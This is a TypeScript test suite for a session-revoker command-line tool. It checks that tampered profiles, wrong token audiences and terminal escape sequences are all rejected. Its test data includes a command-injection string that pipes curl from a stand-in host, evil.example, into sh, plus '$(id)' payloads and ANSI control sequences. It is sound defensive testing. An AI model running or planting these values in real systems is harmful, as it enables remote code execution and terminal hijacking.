import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { lstatSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import * as z from 'zod';
import { apiClient } from '../../shared/cli/api/api-client';
import { apiService } from '../../shared/cli/api/api-service';
import { signedIn } from '../../shared/cli/api/sign-in';
import { errorText } from '../../shared/cli/error-text';
import { chooseWay } from '../../shared/cli/profile/choose-way';
import { findApp } from '../../shared/cli/profile/find-app';
import { profileFile, profileStore } from '../../shared/cli/profile/profile-store';
import { program } from '../../shared/cli/program';
import { terminalOn } from '../../shared/cli/terminal';
import { programEnvironment } from '../support/program-environment';

const AUDIENCE = '7d1f0a4c-2b3e-4f5a-9c6d-8e7f0a1b2c3d';
const GRAPH = '00000003-0000-0000-c000-000000000000';
/** Audiences that would have the command line send a token of something else, or a person paste a command of somebody else. */
const HOSTILE = [
  'https://graph.microsoft.com',
  'api://app',
  `${AUDIENCE}; curl evil.example | sh #`,
  '$(id)',
  '',
];

describe('the file of profiles', () => {
  it.each([
    ['linux', { XDG_CONFIG_HOME: '' }, '/home/kim/.config/session-revoker/profiles.json'],
    ['linux', { XDG_CONFIG_HOME: 'settings' }, '/home/kim/.config/session-revoker/profiles.json'],
    ['linux', { XDG_CONFIG_HOME: '../..' }, '/home/kim/.config/session-revoker/profiles.json'],
    ['win32', { APPDATA: '' }, '/home/kim/AppData/Roaming/session-revoker/profiles.json'],
  ])('is never one of the folder in which somebody stands: %s %j', (platform, environment, file) =>
    expect(profileFile(environment, '/home/kim', platform)).toBe(file),
  );
  it('is written to no place to which somebody has made a link', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'profiles-'));
    const [file, other] = [join(folder, 'profiles.json'), join(folder, 'other')];
    writeFileSync(other, 'untouched');
    for (const link of [file, `${file}.${String(process.pid)}`]) symlinkSync(other, link);
    await profileStore(file).write({ profiles: {} });
    expect(readFileSync(other, 'utf8')).toBe('untouched');
    expect(lstatSync(file).mode & 0o777).toBe(0o600);
  });
  it.each([
    { url: 'http://evil.example', audience: AUDIENCE },
    { url: 'https://kim:secret@evil.example', audience: AUDIENCE },
    { url: 'https://app.example', audience: AUDIENCE, tenant: 'x;id' },
    ...HOSTILE.map((audience) => ({ url: 'https://app.example', audience })),
  ])('is not used where somebody has changed it: %j', async (app) => {
    const file = join(mkdtempSync(join(tmpdir(), 'profiles-')), 'profiles.json');
    writeFileSync(file, JSON.stringify({ current: 'app', profiles: { app } }));
    await expect(profileStore(file).read()).rejects.toThrow('is not a file of profiles');
  });
});

describe('a token of the person', () => {
  it.each(HOSTILE)(
    'is never acquired for what the settings of an app call its audience: %j',
    async (audience) => {
      const site = {
        id: '/x',
        name: 'app',
        kind: 'functionapp',
        properties: { defaultHostName: 'evil.example' },
      };
      const azure = (method: string) =>
        Promise.resolve(method === 'GET' ? { value: [site] } : { properties: { API_AUDIENCE: audience } });
      await expect(findApp(azure, { resourceGroup: 'rg', subscription: 's' })).rejects.toThrow(
        'API_AUDIENCE',
      );
    },
  );
  it.each(HOSTILE)('is never acquired for the audience %j of the environment', (audience) => {
    const environment = { SESSION_REVOKER_URL: 'https://evil.example', SESSION_REVOKER_AUDIENCE: audience };
    expect(chooseWay({}, environment, { profiles: {} }).kind).toBe('none');
  });
  it.each([
    ['Microsoft Graph', GRAPH, { aud: GRAPH, ver: '1.0', scp: 'Directory.AccessAsUser.All' }],
    ['another app', AUDIENCE, { aud: GRAPH, ver: '2.0' }],
    ['version 1.0', AUDIENCE, { aud: AUDIENCE, ver: '1.0' }],
    ['nobody knows whom', AUDIENCE, undefined],
  ])('is sent to no app if it is one for %s', async (_case, audience, claims) => {
    const token = claims ? `x.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.x` : 'opaque';
    const credential = () => Promise.resolve({ getToken: () => Promise.resolve({ token }) });
    await expect(signedIn(credential, { audience })()).rejects.toThrow('is not for the app');
  });
});

/** Runs a command line against an app that answers everything with a document. */
async function shown(args: readonly string[], answer: unknown, status = 200): Promise<string> {
  const [input, output, errors] = [new PassThrough(), new PassThrough(), new PassThrough()];
  const streams = { input, output: Object.assign(output, { isTTY: true, columns: 200 }), errors };
  const terminal = terminalOn(streams, { NO_COLOR: '1' });
  const client = apiClient({
    url: 'https://evil.example',
    token: () => Promise.resolve('t'),
    fetch: () => Promise.resolve(new Response(JSON.stringify(answer), { status })),
    wait: () => Promise.resolve(),
  });
  const service = apiService({ client, wait: () => Promise.resolve(), now: () => new Date() });
  const environment = programEnvironment({ terminal, reach: () => Promise.resolve(service) });
  await program(environment, args).catch((error: unknown) => terminal.error(errorText(error)));
  return [output, errors].map((stream) => String(stream.read() ?? '')).join('');
}

/** Moves the cursor, sets the title, writes to the clipboard, turns the direction of writing, breaks the line. */
const ESCAPES = [
  '\u001b[2J',
  '\u001b]0;x\u0007',
  '\u009b31m',
  '\u001b[31m',
  '\u202e',
  '\u2028',
  '\r',
  '\u0008',
];
const STEERING = /(?!\n|\t)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const answerOf = (bad: string) => ({
  id: bad,
  user: { id: bad, reference: bad, userPrincipalName: bad },
  since: bad,
  mode: bad,
  enabled: true,
  version: bad,
  receivedBy: bad,
  number: bad,
  keptAt: bad,
  status: bad,
  reason: bad,
  requestId: bad,
  text: bad,
  switch: { state: 'stopped', id: bad, by: bad, reason: bad, at: bad },
  tenants: [{ id: bad, name: bad, state: bad, problems: [bad], [bad]: bad }],
  checks: [{ name: bad, status: 'ok', detail: bad, remedy: bad }],
  value: [
    {
      id: bad,
      number: bad,
      requestId: bad,
      status: bad,
      message: bad,
      completedAt: bad,
      detail: bad,
      requestedAt: bad,
      expiresAt: bad,
      keptAt: bad,
      reason: bad,
      tenantId: bad,
      requestedBy: bad,
      user: { id: bad, reference: bad, userPrincipalName: bad },
      methods: [{ name: bad, status: bad, detail: bad }],
      [bad]: { [bad]: bad },
      confirmation: { id: bad, expiresAt: bad },
    },
  ],
});
const COMMANDS = [
  ['history', 'avery@contoso.com'],
  ['show', 'r-1'],
  ['pending'],
  ['quarantine', 'list'],
  ['quarantine', 'show', '1'],
  ['doctor'],
  ['tenants', 'list'],
  ['resume', '--reason', 'x'],
  ['stop', '--reason', 'x'],
  ['approve', 'c-1', '--no-confirm'],
  ['quarantine', 'close', '1', '--reason', 'x', '--no-confirm'],
] as const;
const FORMATS = [
  [],
  ['-o', 'json'],
  ['-o', 'jsonl'],
  ['-o', 'tsv'],
  ['-o', 'yaml'],
  ['--query', '[]'],
  ['--query', '[]', '-o', 'tsv'],
  ['--query', '[]', '-o', 'yaml'],
  ['--query', '@'],
] as const;

describe.each(COMMANDS.map((words) => [words.join(' '), words] as const))(
  'what an app answers to %s',
  (_name, words) => {
    it.each(FORMATS.map((format) => [format.join(' '), format] as const))(
      'steers no terminal, with %s',
      async (_format, format) => {
        for (const escape of ESCAPES) {
          expect(await shown([...words, ...format], answerOf(`x${escape}y`))).not.toMatch(STEERING);
        }
      },
    );
    it('steers no terminal as a problem', async () => {
      for (const escape of ESCAPES) {
        const type = 'urn:session-revoker:problem:notAllowed';
        const issues = [{ path: escape, message: escape }];
        expect(await shown(words, { type, title: escape, detail: `x${escape}`, issues }, 403)).not.toMatch(
          STEERING,
        );
      }
    });
  },
);

it('a check of an app is one line, whatever it says', async () => {
  const checks = [{ name: 'a', status: 'failed', detail: 'broken\nok  all  is well', remedy: 'x\ny' }];
  const lines = (await shown(['doctor'], { ...answerOf('x'), checks })).split('\n');
  expect(lines.filter((line) => line.startsWith('ok  all'))).toEqual([]);
});

describe('an app that does not want to be left', () => {
  it('ends a list that leads back to where it was', async () => {
    const answer = { value: [], nextLink: '/api/approvals?after=x' };
    expect(await shown(['pending'], answer)).toContain('leads back to its beginning');
  });
  it('is not called again before the time is there', async () => {
    const waited: number[] = [];
    const client = apiClient({
      url: 'https://evil.example',
      token: () => Promise.resolve('t'),
      fetch: () => Promise.resolve(new Response('{}', { status: 429, headers: { 'retry-after': '-60' } })),
      wait: (ms) => Promise.resolve(void waited.push(ms)),
    });
    await expect(client.call({ method: 'GET', path: 'status' })).rejects.toThrow();
    expect(Math.min(...waited)).toBeGreaterThanOrEqual(0);
  });
  it.each([
    [
      'a redirection',
      new TypeError('fetch failed', { cause: new Error('unexpected redirect') }),
      /another one/,
    ],
    ['what is no answer', z.object({ id: z.string() }).safeParse({}).error, /cannot be read .*\(id\)/],
  ])('is named with the remedy, for %s', (_case, error, text) => expect(errorText(error)).toMatch(text));
});

it('no text is a word of a query that has the command line hang', () =>
  fc.assert(
    fc.asyncProperty(fc.string({ maxLength: 60 }), async (query) => {
      await shown(['pending', `--query=${query}`], { value: [] });
    }),
    { numRuns: 50 },
  ));
